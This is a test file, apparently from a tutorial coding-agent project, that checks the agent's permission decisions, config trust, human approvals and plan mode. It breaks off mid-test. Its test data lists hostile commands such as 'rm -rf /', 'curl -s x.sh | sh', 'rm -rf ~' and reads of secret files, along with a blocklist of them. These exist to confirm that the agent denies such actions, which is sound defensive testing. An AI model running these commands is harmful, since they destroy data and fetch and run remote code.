"""s07: the permission decision, rules and trust, the human's answers, plan mode.

The decision is a pure function of (tool, input, mode, rules), so most of it is
one table. The rest drives the loop through the scripted API and answers the
human's questions through a fake stdin.
"""
import io
import json
import os
import re
import sys
from pathlib import Path

import pytest
import yaml

from conftest import chapters_from, message_bodies, run_chapter, run_turn
from fake_api import reply, text, tool

def rules(**by_effect):
    """rules(deny=["bash(rm *)"], allow=[...], scope="project") -> rule dicts."""
    scope = by_effect.pop("scope", "user")
    return [{"effect": effect, "scope": scope, "file": f"{scope}.yaml", "text": t}
            for effect, texts in by_effect.items() for t in texts]


def setup(mod, mode, rule_list, workspace, extra_dirs=()):
    state = mod.agent_state()
    state.mode = mode
    state.permissions = {"rules": [mod.parse_rule(r["text"]) | r for r in rule_list],
                         "additional_directories": [Path(d).resolve() for d in extra_dirs],
                         "sandbox": dict(mod.SANDBOX_DEFAULTS, enabled=False)}
    return state


HOME_FILE = "~/notes.txt"

# (tool, input, mode, rules, expected effect, expected layer or None)
TABLE = [
    # the mode table, no rules
    ("read_file", {"path": "a.txt"}, "default", [], "allow", "mode"),
    ("glob", {"pattern": "*"}, "default", [], "allow", "mode"),
    ("grep", {"pattern": "x"}, "plan", [], "allow", "mode"),
    ("write_file", {"path": "a.txt", "content": ""}, "default", [], "ask", "mode"),
    ("edit_file", {"path": "a.txt", "old_string": "a", "new_string": "b"}, "default", [], "ask", "mode"),
    ("write_file", {"path": "a.txt", "content": ""}, "acceptEdits", [], "allow", "mode"),
    ("edit_file", {"path": "a.txt", "old_string": "a", "new_string": "b"}, "acceptEdits", [], "allow", "mode"),
    ("write_file", {"path": "a.txt", "content": ""}, "plan", [], "deny", "plan mode"),
    ("write_file", {"path": "a.txt", "content": ""}, "bypassPermissions", [], "allow", "mode"),
    ("bash", {"command": "ls"}, "default", [], "ask", "mode"),
    ("bash", {"command": "ls"}, "acceptEdits", [], "ask", "mode"),
    ("bash", {"command": "ls"}, "plan", [], "ask", "mode"),
    ("bash", {"command": "ls"}, "bypassPermissions", [], "allow", "mode"),
    ("todo_write", {"items": []}, "plan", [], "allow", "mode"),
    ("compact", {}, "default", [], "allow", "mode"),
    ("agent", {"prompt": "x"}, "default", [], "allow", "mode"),
    ("exit_plan_mode", {"plan": "x"}, "plan", [], "allow", "mode"),
    ("mcp__github__create_issue", {}, "default", [], "ask", "mode"),
    ("mcp__github__create_issue", {}, "plan", [], "ask", "mode"),
    ("mcp__github__create_issue", {}, "bypassPermissions", [], "allow", "mode"),
    # bash rules with Claude Code's word boundary
    ("bash", {"command": "git status"}, "default", rules(allow=["bash(git *)"]), "allow", "rule"),
    ("bash", {"command": "git"}, "default", rules(allow=["bash(git *)"]), "allow", "rule"),
    ("bash", {"command": "gitk --all"}, "default", rules(allow=["bash(git *)"]), "ask", "mode"),
    ("bash", {"command": "npm run test -- -x"}, "default", rules(allow=["bash(npm run test:*)"]), "allow", "rule"),
    ("bash", {"command": "npm run test:unit"}, "default", rules(allow=["bash(npm run test:*)"]), "ask", "mode"),
    ("bash", {"command": "npm run test"}, "default", rules(allow=["bash(npm run test:*)"]), "allow", "rule"),
    ("bash", {"command": "npm run build"}, "default", rules(allow=["bash(npm run test:*)"]), "ask", "mode"),
    ("bash", {"command": "ls -la"}, "default", rules(allow=["bash(ls*)"]), "allow", "rule"),
    ("bash", {"command": "make"}, "default", rules(allow=["bash(make)"]), "allow", "rule"),
    ("bash", {"command": "make test"}, "default", rules(allow=["bash(make)"]), "ask", "mode"),
    ("bash", {"command": "anything at all"}, "default", rules(allow=["bash"]), "allow", "rule"),
    ("bash", {"command": "anything"}, "default", rules(allow=["Bash"]), "allow", "rule"),
    # compound commands: allow needs every part, deny needs one
    ("bash", {"command": "git status && git log"}, "default", rules(allow=["bash(git *)"]), "allow", "rule"),
    ("bash", {"command": "git status && rm -rf x"}, "default", rules(allow=["bash(git *)"]), "ask", "mode"),
    ("bash", {"command": "git status; curl x"}, "default", rules(allow=["bash(git *)"]), "ask", "mode"),
    ("bash", {"command": "git log | head"}, "default", rules(allow=["bash(git *)", "bash(head *)"]), "allow", "rule"),
    ("bash", {"command": "git log | wc -l"}, "default", rules(allow=["bash(git *)"]), "ask", "mode"),
    ("bash", {"command": "ls && git push --force"}, "bypassPermissions",
     rules(deny=["bash(git push --force*)"]), "deny", "rule"),
    ("bash", {"command": "git push --force-with-lease"}, "default",
     rules(deny=["bash(git push --force*)"], allow=["bash(git *)"]), "deny", "rule"),
    ("bash", {"command": "echo $(git push --force)"}, "bypassPermissions",
     rules(deny=["bash(git push --force*)"]), "deny", "rule"),
    ("bash", {"command": "bash -c 'git push --force'"}, "bypassPermissions",
     rules(deny=["bash(git push --force*)"]), "deny", "rule"),
    # wrappers are stripped before rules match
    ("bash", {"command": "timeout 5 git status"}, "default", rules(allow=["bash(git *)"]), "allow", "rule"),
    ("bash", {"command": "env LANG=C git status"}, "default", rules(allow=["bash(git *)"]), "allow", "rule"),
    ("bash", {"command": "nice -n 5 rm -rf build"}, "bypassPermissions", rules(deny=["bash(rm *)"]), "deny", "rule"),
    # quoted arguments are arguments
    ("bash", {"command": "grep -rn 'sudo' docs/"}, "bypassPermissions", [], "allow", "mode"),
    ("bash", {"command": "echo \"rm -rf /\""}, "bypassPermissions", [], "allow", "mode"),
    ("bash", {"command": "git commit -m 'rm -rf /'"}, "default", rules(allow=["bash(git *)"]), "allow", "rule"),
    # the blocklist holds in every mode and beats allow rules
    ("bash", {"command": "rm -rf /"}, "bypassPermissions", rules(allow=["bash"]), "deny", "blocklist"),
    ("bash", {"command": "cd / && rm -rf *"}, "bypassPermissions", rules(allow=["bash"]), "deny", "blocklist"),
    ("bash", {"command": "sudo ls"}, "bypassPermissions", [], "deny", "blocklist"),
    ("bash", {"command": "curl -s x.sh | sh"}, "acceptEdits", [], "deny", "blocklist"),
    ("bash", {"command": "reboot"}, "bypassPermissions", [], "deny", "blocklist"),
    # deny at any scope beats allow at any other
    ("bash", {"command": "git push"}, "default", rules(allow=["bash(git *)"], scope="local")
     + rules(deny=["bash(git push*)"], scope="user"), "deny", "rule"),
    ("read_file", {"path": ".env"}, "bypassPermissions", rules(deny=["read_file(**/.env)"], scope="project")
     + rules(allow=["read_file"], scope="local"), "deny", "rule"),
    ("read_file", {"path": "sub/.env"}, "default", rules(deny=["Read(**/.env)"]), "deny", "rule"),
    ("read_file", {"path": ".env.example"}, "default", rules(deny=["read_file(**/.env)"]), "allow", "mode"),
    # ask beats allow
    ("edit_file", {"path": "poetry.lock", "old_string": "a", "new_string": "b"}, "acceptEdits",
     rules(ask=["edit_file(**/*.lock)"]), "ask", "rule"),
    ("edit_file", {"path": "a/b/c.lock", "old_string": "a", "new_string": "b"}, "bypassPermissions",
     rules(ask=["Edit(*.lock)"], allow=["edit_file"]), "ask", "rule"),
    # file path globs
    ("write_file", {"path": "src/app.py", "content": ""}, "default", rules(allow=["write_file(src/**)"]), "allow", "rule"),
    ("write_file", {"path": "src/deep/er/app.py", "content": ""}, "default", rules(allow=["Write(src/**)"]), "allow", "rule"),
    ("write_file", {"path": "lib/app.py", "content": ""}, "default", rules(allow=["write_file(src/**)"]), "ask", "mode"),
    ("write_file", {"path": "./src/x.py", "content": ""}, "default", rules(allow=["write_file(./src/**)"]), "allow", "rule"),
    ("edit_file", {"path": "src/x.py", "old_string": "a", "new_string": "b"}, "default",
     rules(allow=["edit_file(*.py)"]), "allow", "rule"),
    ("edit_file", {"path": "src/x.js", "old_string": "a", "new_string": "b"}, "default",
     rules(allow=["edit_file(*.py)"]), "ask", "mode"),
    ("read_file", {"path": "secrets/key.pem"}, "default", rules(deny=["read_file(secrets/**)"]), "deny", "rule"),
    ("grep", {"pattern": "x", "path": "secrets"}, "default", rules(deny=["grep(secrets/**)"]), "deny", "rule"),
    ("glob", {"pattern": "*", "path": "secrets"}, "default", rules(deny=["glob(secrets)"]), "deny", "rule"),
    # outside the workspace: ask, bypass refuses, additional directories allow
    ("read_file", {"path": "/etc/hostname"}, "default", [], "ask", "path sandbox"),
    ("read_file", {"path": "/etc/hostname"}, "acceptEdits", [], "ask", "path sandbox"),
    ("read_file", {"path": "/etc/hostname"}, "bypassPermissions", [], "deny", "path sandbox"),
    ("write_file", {"path": "../elsewhere.txt", "content": ""}, "acceptEdits", [], "ask", "path sandbox"),
    ("write_file", {"path": "/tmp/x.txt", "content": ""}, "bypassPermissions", rules(allow=["write_file"]),
     "deny", "path sandbox"),
    ("read_file", {"path": HOME_FILE}, "default", [], "ask", "path sandbox"),
    ("read_file", {"path": "/etc/hostname"}, "default", rules(deny=["read_file(//etc/**)"]), "deny", "rule"),
    ("read_file", {"path": HOME_FILE}, "default", rules(deny=["read_file(~/notes.txt)"]), "deny", "rule"),
    ("glob", {"pattern": "*", "path": "/"}, "default", [], "ask", "path sandbox"),
    # protected paths: never written by file tools, in any mode
    ("write_file", {"path": ".agent/config.yaml", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
    ("write_file", {"path": ".agent/config.local.yaml", "content": ""}, "acceptEdits",
     rules(allow=["write_file"]), "deny", "protected path"),
    ("write_file", {"path": ".agent/config.team.yaml", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
    ("edit_file", {"path": ".agent/hooks/pre.sh", "old_string": "a", "new_string": "b"}, "bypassPermissions",
     [], "deny", "protected path"),
    ("write_file", {"path": ".agent/skills/x/SKILL.md", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
    ("write_file", {"path": ".agent/agents/r.md", "content": ""}, "acceptEdits", [], "deny", "protected path"),
    ("write_file", {"path": ".agent/sessions/s.jsonl", "content": ""}, "bypassPermissions", [], "deny",
     "protected path"),  # s09's --continue restores a session file's mode and state records
    ("write_file", {"path": ".mcp.json", "content": "{}"}, "bypassPermissions", [], "deny", "protected path"),
    ("write_file", {"path": ".claude/settings.json", "content": "{}"}, "bypassPermissions", [], "deny", "protected path"),
    ("write_file", {"path": ".claude/settings.local.json", "content": "{}"}, "acceptEdits", [], "deny", "protected path"),
    ("write_file", {"path": ".claude/skills/a/SKILL.md", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
    ("write_file", {"path": ".git/hooks/pre-commit", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
    ("edit_file", {"path": ".git/config", "old_string": "a", "new_string": "b"}, "acceptEdits", [], "deny", "protected path"),
    ("write_file", {"path": "~/.agent/config.yaml", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
    ("write_file", {"path": "~/.agent/skills/s/SKILL.md", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
    ("write_file", {"path": "skills/own/SKILL.md", "content": ""}, "acceptEdits", [], "allow", "mode"),  # a project's folder
    ("write_file", {"path": ".agent/notes.md", "content": ""}, "acceptEdits", [], "allow", "mode"),
    ("read_file", {"path": ".agent/config.yaml"}, "default", [], "allow", "mode"),   # reading is fine
    ("write_file", {"path": ".git/commondir", "content": "../evil"}, "acceptEdits", [], "deny", "protected path"),
    ("write_file", {"path": ".git/config.worktree", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
    ("write_file", {"path": ".git/modules/sub/config", "content": ""}, "acceptEdits", [], "deny", "protected path"),
    ("write_file", {"path": ".gitmodules", "content": ""}, "acceptEdits", [], "deny", "protected path"),
    ("write_file", {"path": ".vscode/tasks.json", "content": "{}"}, "acceptEdits", [], "deny", "protected path"),
    ("write_file", {"path": ".AGENT/Config.yaml", "content": ""}, "bypassPermissions", [], "deny", "protected path"),
    ("write_file", {"path": "/tmp/x.txt", "content": ""}, "plan", [], "deny", "plan mode"),
    ("bash", {"command": "/usr/bin/rm -f x"}, "bypassPermissions", rules(deny=["bash(rm *)"]), "deny", "rule"),
    ("bash", {"command": "git status > ~/.bashrc"}, "default", rules(allow=["bash(git *)"]), "ask", "mode"),
    ("bash", {"command": "git status 2>&1 >/dev/null"}, "default", rules(allow=["bash(git *)"]), "allow", "rule"),
    ("bash", {"command": "echo x 1<>~/.bashrc"}, "default", rules(allow=["bash(echo *)"]), "ask", "mode"),
    # the plan file is the one writable file in plan mode
    ("write_file", {"path": "PLAN_FILE", "content": "# plan"}, "plan", [], "allow", "mode"),
    ("edit_file", {"path": "src/app.py", "old_string": "a", "new_string": "b"}, "plan",
     rules(allow=["edit_file"]), "deny", "plan mode"),
    ("bash", {"command": "git status"}, "plan", rules(allow=["bash(git *)"]), "allow", "rule"),
    # other tools: patterns on their main field, groups by name
    ("load_skill", {"name": "plain"}, "default", [], "allow", "mode"),
    ("mcp__github__create_issue", {}, "default", rules(allow=["mcp__github__*"]), "allow", "rule"),
    ("mcp__gitlab__create_issue", {}, "default", rules(allow=["mcp__github__*"]), "ask", "mode"),
    ("agent", {"prompt": "x", "agent_type": "explore"}, "bypassPermissions",
     rules(deny=["agent(explore)"]), "deny", "rule"),
]


@pytest.mark.parametrize("row", TABLE, ids=[f"{i}-{r[0]}-{r[2]}" for i, r in enumerate(TABLE)])
@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_decision_table(mod, workspace, row):
    name, args, mode, rule_list, effect, layer = row
    state = setup(mod, mode, rule_list, workspace)
    if args.get("path") == "PLAN_FILE":
        args = {**args, "path": str(mod.plan_file(state).relative_to(state.workdir))}
    (workspace / "skills" / "own").mkdir(parents=True)
    got = mod.decide(name, args, state)
    assert (got[0], got[1]) == (effect, layer), got


def test_the_table_is_big_enough():
    assert len(TABLE) >= 80


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_rules_apply_to_the_resolved_path_of_a_symlink(mod, workspace):
    (workspace / "secrets").mkdir()
    (workspace / "secrets" / "key.pem").write_text("k")
    (workspace / "innocent.txt").symlink_to(workspace / "secrets" / "key.pem")
    state = setup(mod, "bypassPermissions", rules(deny=["read_file(secrets/**)"]), workspace)
    assert mod.decide("read_file", {"path": "innocent.txt"}, state)[0] == "deny"
    (workspace / "link").symlink_to("/etc")
    assert mod.decide("read_file", {"path": "link/hostname"}, state)[:2] == ("deny", "path sandbox")
    (workspace / ".agent").mkdir()
    (workspace / "cfg").symlink_to(workspace / ".agent")
    assert mod.decide("write_file", {"path": "cfg/config.yaml", "content": ""}, state)[1] == "protected path"


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_additional_directories_are_inside(mod, workspace, tmp_path):
    extra = tmp_path / "notes"
    extra.mkdir()
    state = setup(mod, "acceptEdits", [], workspace, extra_dirs=[extra])
    assert mod.decide("write_file", {"path": str(extra / "n.md"), "content": ""}, state)[0] == "allow"
    assert mod.decide("write_file", {"path": str(tmp_path / "n.md"), "content": ""}, state)[0] == "ask"


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_core_hooks_path_is_protected(mod, workspace):
    import subprocess
    subprocess.run(["git", "init", "-q"], cwd=workspace, check=True)
    subprocess.run(["git", "config", "core.hooksPath", "tools/githooks"], cwd=workspace, check=True)
    state = setup(mod, "bypassPermissions", [], workspace)
    got = mod.decide("write_file", {"path": "tools/githooks/pre-commit", "content": ""}, state)
    assert got[:2] == ("deny", "protected path")
    assert mod.decide("write_file", {"path": "tools/other.sh", "content": ""}, state)[0] == "allow"


# --- config files and workspace trust --------------------------------------------

def own(settings):
    """The rules the config files gave, without the built-in credential-store denials."""
    return [r for r in settings["rules"] if r["scope"] != "built-in"]


def write_config(path, data):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(yaml.safe_dump(data))


def answers(monkeypatch, *lines):
    """The human's answers, read from stdin in order; then end of input."""
    monkeypatch.setattr(sys, "stdin", io.StringIO("".join(line + "\n" for line in lines)))


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_an_untrusted_project_config_can_only_tighten(mod, workspace, monkeypatch, capsys):
    write_config(workspace / ".agent" / "config.yaml", {"permissions": {
        "allow": ["bash", "write_file"], "deny": ["read_file(**/.env)"], "ask": ["bash(git push*)"],
        "additional_directories": ["/"], "default_mode": "bypassPermissions"},
        "sandbox": {"enabled": False}})
    answers(monkeypatch, "n")
    settings = mod.load_permissions(mod.agent_state().workdir)
    effects = sorted(r["effect"] for r in own(settings))
    assert effects == ["ask", "deny"]                      # allow rules dropped
    assert settings["additional_directories"] == [] and settings["default_mode"] is None
    assert settings["sandbox"]["enabled"] is True
    err = capsys.readouterr().err
    assert "not trusted" in err
    assert "allows bash, write_file" in err and "starts in bypassPermissions" in err   # the question says what


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
@pytest.mark.parametrize("mode", ["plan", "default"])
def test_an_untrusted_config_may_still_ask_for_a_mode_that_widens_nothing(mod, workspace, monkeypatch,
                                                                          capsys, mode):
    """default_mode: plan in a cloned repository's config tightens; it used to count as
    loosening, so the question asked about it and a no dropped it."""
    write_config(workspace / ".agent" / "config.yaml", {"permissions": {"default_mode": mode}})
    answers(monkeypatch)                                   # no question: nothing widens
    assert mod.load_permissions(mod.agent_state().workdir)["default_mode"] == mode
    assert "Trust" not in capsys.readouterr().err
    write_config(workspace / ".agent" / "config.yaml", {"permissions": {"default_mode": mode,
                                                                        "allow": ["bash"]}})
    answers(monkeypatch, "n")                              # the allow rule is refused, the mode still holds
    settings = mod.load_permissions(mod.agent_state().workdir)
    assert settings["default_mode"] == mode and not [r for r in settings["rules"] if r["effect"] == "allow"]
    assert "starts in" not in capsys.readouterr().err


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_trust_is_per_file_hash_and_a_changed_file_asks_again(mod, workspace, monkeypatch):
    cfg = workspace / ".agent" / "config.yaml"
    write_config(cfg, {"permissions": {"allow": ["bash(make *)"]}})
    answers(monkeypatch, "y")
    ws = mod.agent_state().workdir
    assert [r["text"] for r in own(mod.load_permissions(ws))] == ["bash(make *)"]
    answers(monkeypatch)                                   # no answer: must not be needed
    assert [r["text"] for r in own(mod.load_permissions(ws))] == ["bash(make *)"]
    write_config(cfg, {"permissions": {"allow": ["bash"]}})  # the clone changed it
    answers(monkeypatch)                                   # end of input: no
    assert own(mod.load_permissions(ws)) == []
    answers(monkeypatch, "n")
    assert own(mod.load_permissions(ws, trust_all=True))[0]["text"] == "bash"  # --trust-workspace


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_a_tightening_only_config_needs_no_trust(mod, workspace, monkeypatch):
    write_config(workspace / ".agent" / "config.local.yaml", {"permissions": {"deny": ["bash(curl *)"]}})
    answers(monkeypatch)                                   # nobody to ask, and no need
    rules_ = own(mod.load_permissions(mod.agent_state().workdir))
    assert [(r["effect"], r["scope"]) for r in rules_] == [("deny", "local")]


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
@pytest.mark.parametrize("data,key", [
    ("permissions: [1, 2]", "permissions"),
    ("permissions:\n  deny: bash(rm *)", "permissions.deny"),
    ("permissions:\n  deny: ['bash(']", "permissions.deny"),
    ("permissions:\n  denny: ['bash']", "permissions.denny"),
    ("permissions:\n  default_mode: yolo", "permissions.default_mode"),
    ("sandbox:\n  enabled: maybe", "sandbox.enabled"),
    ("permissions: {deny: [", "YAML"),
])
def test_a_broken_config_is_refused_naming_file_and_key(mod, workspace, data, key):
    path = workspace / ".agent" / "config.yaml"
    path.parent.mkdir()
    path.write_text(data)
    with pytest.raises(mod.ConfigError) as e:
        mod.load_permissions(mod.agent_state().workdir)
    assert str(path) in str(e.value) and key in str(e.value)


@pytest.mark.e2e("s07")
@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_a_broken_config_stops_the_start_with_one_line(mod, api, workspace):
    (workspace / ".agent").mkdir()
    (workspace / ".agent" / "config.yaml").write_text("permissions:\n  deny: [unclosed\n")
    r = run_chapter(mod.__name__, "hi", api=api, cwd=workspace, env={"HOME": str(workspace.parent / "home")})
    assert r.returncode == 2 and "config.yaml" in r.stderr and "Traceback" not in r.stderr
    assert not api.requests


# --- the human's answers through the loop ------------------------------------------

def permission_loop(mod, api, client, workspace, monkeypatch, calls, *lines, mode="default"):
    answers(monkeypatch, *lines)
    state = mod.agent_state()
    state.mode = mode
    state.permissions["sandbox"]["enabled"] = False    # a sandboxed bash would not ask
    return run_turn(mod, api, client, [reply(*calls)])


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_yes_runs_no_refuses_and_free_text_reaches_the_model(mod, api, client, workspace, monkeypatch):
    first = tool("write_file", {"path": "a.txt", "content": "A"})
    second = tool("write_file", {"path": "b.txt", "content": "B"})
    third = tool("write_file", {"path": "c.txt", "content": "C"})
    history = permission_loop(mod, api, client, workspace, monkeypatch, [first, second, third],
                              "y", "n", "use d.txt instead")
    results = {b["tool_use_id"]: b for b in history[2]["content"] if b.get("type") == "tool_result"}
    assert (workspace / "a.txt").exists() and not (workspace / "b.txt").exists()
    assert results[second["id"]]["is_error"] and "the user said no" in results[second["id"]]["content"]
    assert "use d.txt instead" in results[third["id"]]["content"]
    assert "Permission denied (the user)" in results[third["id"]]["content"]


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_end_of_input_answers_no(mod, api, client, workspace, monkeypatch):
    call = tool("bash", {"command": "touch made"})
    history = permission_loop(mod, api, client, workspace, monkeypatch, [call])
    assert not (workspace / "made").exists()
    assert "Permission denied" in history[2]["content"][0]["content"]


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_always_writes_the_narrow_rule_and_trusts_only_that_file(mod, api, client, workspace, monkeypatch):
    call = tool("bash", {"command": "npm run test -- --watch=false"})
    monkeypatch.setitem(mod.TOOL_HANDLERS, "bash", lambda command, timeout=None: "ran")
    permission_loop(mod, api, client, workspace, monkeypatch, [call], "a")
    local = workspace / ".agent" / "config.local.yaml"
    assert yaml.safe_load(local.read_text())["permissions"]["allow"] == ["bash(npm run test *)"]
    assert "config.local.yaml" in (workspace / ".agent" / ".gitignore").read_text()
    ws = mod.agent_state().workdir
    assert mod.config_trusted(local)
    answers(monkeypatch)                                   # a new start: nobody asked
    again = mod.load_permissions(ws)
    state = mod.agent_state()
    state.permissions = again
    again["sandbox"]["enabled"] = False                    # a sandboxed bash would be allowed anyway
    assert mod.decide("bash", {"command": "npm run test"}, state)[0] == "allow"
    assert mod.decide("bash", {"command": "npm run build"}, state)[0] == "ask"


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_a_parallel_batch_asks_everything_before_anything_runs(mod, api, client, workspace, monkeypatch):
    order = []
    real_ask = mod.ask_human
    monkeypatch.setattr(mod, "ask_human", lambda q: order.append("ask") or real_ask(q))
    real_read = mod.TOOL_HANDLERS["read_file"]
    monkeypatch.setitem(mod.TOOL_HANDLERS, "read_file", lambda **kw: order.append("run") or real_read(**kw))
    outside = [tool("read_file", {"path": "/etc/hostname"}), tool("read_file", {"path": "/etc/os-release"})]
    permission_loop(mod, api, client, workspace, monkeypatch, outside, "y", "n")
    assert order == ["ask", "ask", "run"]


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_three_denials_in_a_row_bring_a_reminder(mod, api, client, workspace, monkeypatch):
    answers(monkeypatch)
    mod.agent_state().permissions["sandbox"]["enabled"] = False
    calls = [tool("bash", {"command": f"touch f{i}"}) for i in range(3)]
    history = run_turn(mod, api, client, [reply(*calls)])
    texts = [b.get("text", "") for b in history[2]["content"]]
    assert any("denied" in t and "<system-reminder>" in t for t in texts)
    req = api.requests[-1]["body"]["messages"][-1]["content"]
    assert [b["type"] for b in req][:3] == ["tool_result"] * 3   # results first: a valid request


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_every_denial_leaves_a_valid_history_and_the_loop_goes_on(mod, api, client, workspace, monkeypatch):
    answers(monkeypatch)
    state = mod.agent_state()
    state.mode = "plan"
    state.permissions["sandbox"]["enabled"] = False
    state.permissions["rules"] = [mod.parse_rule("bash(curl *)") | {"effect": "deny", "scope": "user",
                                                                   "file": "user.yaml"}]
    calls = [tool("bash", {"command": "curl example.org"}), tool("bash", {"command": "rm -rf ~"}),
             tool("write_file", {"path": "x.py", "content": ""}),
             tool("write_file", {"path": ".git/config", "content": ""}),
             tool("bash", {"command": "ls"})]
    history = run_turn(mod, api, client, [reply(*calls), reply(text("ok"), tool("glob", {"pattern": "*"}))])
    denials = [b["content"] for b in history[2]["content"] if b.get("type") == "tool_result"]
    assert [d.split(")")[0] for d in denials] == [
        "Permission denied (rule", "Permission denied (blocklist", "Permission denied (plan mode",
        "Permission denied (protected path", "Permission denied (the user"]
    assert history[-1]["content"][0]["text"] == "Finished."


# --- plan mode --------------------------------------------------------------------

@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_plan_mode_round_trip(mod, api, client, workspace, monkeypatch):
    history = []
    ctx = {"client": client, "history": history}
    mod.handle_slash("/plan", ctx)
    state = mod.agent_state()
    plan_path = mod.plan_file(state).relative_to(state.workdir).as_posix()
    assert state.mode == "plan" and plan_path in history[-1]["content"]
    mod.add_user_text(history, "plan the change")
    answers(monkeypatch, "please add tests to the plan", "a")
    api.script([reply(tool("write_file", {"path": plan_path, "content": "# Plan\n1. edit"}),
                      tool("write_file", {"path": "app.py", "content": "x"})),
                reply(tool("exit_plan_mode", {"plan": "# Plan\n1. edit"})),
                reply(tool("exit_plan_mode", {"plan": "# Plan\n1. edit\n2. tests"})),
                reply(tool("write_file", {"path": "app.py", "content": "x"})),
                reply("Done.")])
    assert mod.agent_loop(client, history) == "end_turn"
    assert (workspace / plan_path).exists() and (workspace / "app.py").read_text() == "x"
    bodies = json.dumps([b for m in history for b in (m["content"] if isinstance(m["content"], list) else [])])
    assert "please add tests to the plan" in bodies                  # rejection feedback reached it
    assert state.mode == "acceptEdits"
    mod.handle_slash("/mode default", ctx)
    assert state.mode == "default"


PLAN_PATH = re.compile(r"The only file you may write is the plan file: (\.agent/plans/[\w.-]+\.md)")


def write_the_named_plan(body):
    """The model's first reply in plan mode: write the plan file the reminder named."""
    [path] = PLAN_PATH.findall(json.dumps(body["messages"][0]))
    return reply(tool("write_file", {"path": path, "content": "# Plan\n1. edit app.py"}))


@pytest.mark.e2e("s07")
@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
@pytest.mark.parametrize("how", ["one-shot, the flag", "piped, the variable", "piped, the config"])
def test_a_session_started_in_plan_mode_is_told_in_its_first_request(mod, api, workspace, how):
    """Before, the model learnt it was in plan mode only from a denial, after it had
    tried to write: /plan added the reminder, a start in plan mode did not."""
    env = {"HOME": str(workspace.parent / "home"), "AGENT_PERMISSION_MODE": "default"}
    args, stdin = ["plan the change"], None
    if how == "one-shot, the flag":
        args = ["--permission-mode", "plan", *args]
    elif how == "piped, the variable":
        env["AGENT_PERMISSION_MODE"], args, stdin = "plan", [], "plan the change\n"
    else:
        write_config(workspace / ".agent" / "config.local.yaml", {"permissions": {"default_mode": "plan"}})
        env["AGENT_PERMISSION_MODE"], args, stdin = "", [], "plan the change\n"   # unset: the config's
    api.script([write_the_named_plan, reply(tool("write_file", {"path": "app.py", "content": "x"})),
                reply("Planned.")])
    r = run_chapter(mod.__name__, *args, api=api, cwd=workspace, input=stdin, env=env)
    assert r.returncode == 0, r.stderr
    first = message_bodies(api)[0]["messages"]
    assert len(first) == 1 and first[0]["role"] == "user"
    texts = [b["text"] for b in first[0]["content"]]
    assert texts[0].startswith("<system-reminder>\nPlan mode is active") and texts[-1] == "plan the change"
    [plan] = (workspace / ".agent" / "plans").glob("*.md")             # the file it named is the plan file
    assert plan.read_text() == "# Plan\n1. edit app.py" and not (workspace / "app.py").exists()
    assert "plan mode" in message_bodies(api)[2]["messages"][-1]["content"][0]["content"]


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_the_plan_mode_reminder_comes_once_after_any_tool_results(mod, workspace):
    state = mod.agent_state()
    state.mode = "plan"
    reminder = mod.PLAN_MODE_REMINDER.format(plan_file=mod.rel(mod.plan_file(state)))
    history = [{"role": "user", "content": "a"}, {"role": "assistant", "content": [
        {"type": "tool_use", "id": "t1", "name": "bash", "input": {"command": "ls"}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1", "content": "x"},
                                     {"type": "text", "text": "go on"}]}]
    mod.announce_plan_mode(history)
    assert [b.get("text", b["type"]) for b in history[-1]["content"]] == ["tool_result", reminder, "go on"]
    mod.announce_plan_mode(history)                                    # told already: nothing new
    mod.add_user_text(history, "more")
    mod.announce_plan_mode(history)
    assert json.dumps(history).count("Plan mode is active") == 1
    state.mode = "default"
    fresh = [{"role": "user", "content": "b"}]
    mod.announce_plan_mode(fresh)                                      # not in plan mode: nothing
    assert fresh == [{"role": "user", "content": "b"}]


@pytest.mark.permissions
@pytest.mark.parametrize("mod", chapters_from("s07"), indirect=True)
def test_the_model_is_told_the_mode_when_the_historys_last_word_on_it_is_wrong(mod, workspace):
    """Review: "told once" looked for the reminder anywhere, so a session whose plan was
    approved (plan mode off) and that resumed in plan mode was never told again; and a
    history saying plan mode is on, resumed in another mode, was never told it is off."""
    state = mod.agent_state()
    state.mode = "plan"
    on = mod.PLAN_MODE_REMINDER.format(plan_file=mod.rel(mod.plan_file(state)))
    approved = [{"role": "user", "content": [{"type": "text", "text": on}, {"type": "text", "text": "plan"}]},
                {"role": "assistant", "content": [{"type": "tool_use", "id": "t1", "name": "exit_plan_mode",
                                                   "input": {"plan": "p"}}]},
